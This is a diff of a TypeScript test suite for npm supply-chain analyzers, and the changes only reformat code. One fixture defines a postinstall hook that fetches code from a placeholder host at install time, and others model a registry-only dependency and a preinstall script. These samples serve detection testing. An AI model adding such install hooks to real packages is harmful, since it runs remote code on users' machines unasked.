@@ -15,7 +15,13 @@ const pkgJson = (o: object) => JSON.stringify(o, null, 2);
 describe('npm/install-script', () => {
   test('postinstall that fetches and runs code is medium, with the script as evidence and its line', async () => {
     const c = comp('evil-helper', '1.0.1');
-    const files = filesOf({ 'package.json': pkgJson({ name: 'evil-helper', version: '1.0.1', scripts: { test: 'x', postinstall: 'node -e "require(\'https\').get(\'http://x/a\')"' } }) });
+    const files = filesOf({
+      'package.json': pkgJson({
+        name: 'evil-helper',
+        version: '1.0.1',
+        scripts: { test: 'x', postinstall: "node -e \"require('https').get('http://x/a')\"" },
+      }),
+    });
     const out = await installScriptAnalyzer.analyze(ctxOf(c, { files }));
     assert.equal(out.findings.length, 1);
     const f = out.findings[0]!;
@@ -27,9 +33,13 @@ describe('npm/install-script', () => {
   });
   test('node-gyp rebuild alone is low; binding.gyp without scripts is the implicit install', async () => {
     const c = comp('native', '2.0.0');
-    const a = await installScriptAnalyzer.analyze(ctxOf(c, { files: filesOf({ 'package.json': pkgJson({ scripts: { install: 'node-gyp rebuild' } }) }) }));
+    const a = await installScriptAnalyzer.analyze(
+      ctxOf(c, { files: filesOf({ 'package.json': pkgJson({ scripts: { install: 'node-gyp rebuild' } }) }) }),
+    );
     assert.equal(a.findings[0]!.severity, 'low');
-    const b = await installScriptAnalyzer.analyze(ctxOf(c, { files: filesOf({ 'package.json': pkgJson({ name: 'native' }), 'binding.gyp': '{}' }) }));
+    const b = await installScriptAnalyzer.analyze(
+      ctxOf(c, { files: filesOf({ 'package.json': pkgJson({ name: 'native' }), 'binding.gyp': '{}' }) }),
+    );
     assert.equal(b.findings.length, 1);
     assert.match(b.findings[0]!.evidence[0]!.excerpt!, /implicit/);
   });
@@ -45,7 +55,10 @@ describe('npm/manifest-confusion', () => {
   test('a dependency and a script present only in the registry manifest are reported with both values', async () => {
     const c = comp('confused', '1.0.0');
     const files = filesOf({ 'package.json': pkgJson({ name: 'confused', version: '1.0.0', dependencies: { ok: '^1.0.0' } }) });
-    const manifest = manifestOf('confused', '1.0.0', { dependencies: { ok: '^1.0.0', 'sneaky-dep': '0.0.1' }, scripts: { preinstall: 'node x.js' } });
+    const manifest = manifestOf('confused', '1.0.0', {
+      dependencies: { ok: '^1.0.0', 'sneaky-dep': '0.0.1' },
+      scripts: { preinstall: 'node x.js' },
+    });
     const out = await manifestConfusionAnalyzer.analyze(ctxOf(c, { files, manifest, packument: packumentOf(manifest) }));
     assert.equal(out.findings.length, 1);
     const fields = out.findings[0]!.evidence.map((e) => e.field).sort();
@@ -72,7 +85,10 @@ describe('npm/remote-dependency', () => {
     assert.equal(remoteKind(undefined), undefined);
   });
   test('a git dependency is a finding whose evidence is the locked source and the lockfile line', async () => {
-    const c = comp('forked', '1.2.3', { resolved: 'git+ssh://git@github.com/someone/forked.git#deadbeef', locations: [{ file: 'package-lock.json', line: 42 }] });
+    const c = comp('forked', '1.2.3', {
+      resolved: 'git+ssh://git@github.com/someone/forked.git#deadbeef',
+      locations: [{ file: 'package-lock.json', line: 42 }],
+    });
     const out = await remoteDependencyAnalyzer.analyze(ctxOf(c));
     assert.equal(out.findings.length, 1);
     assert.equal(out.findings[0]!.evidence[0]!.line, 42);
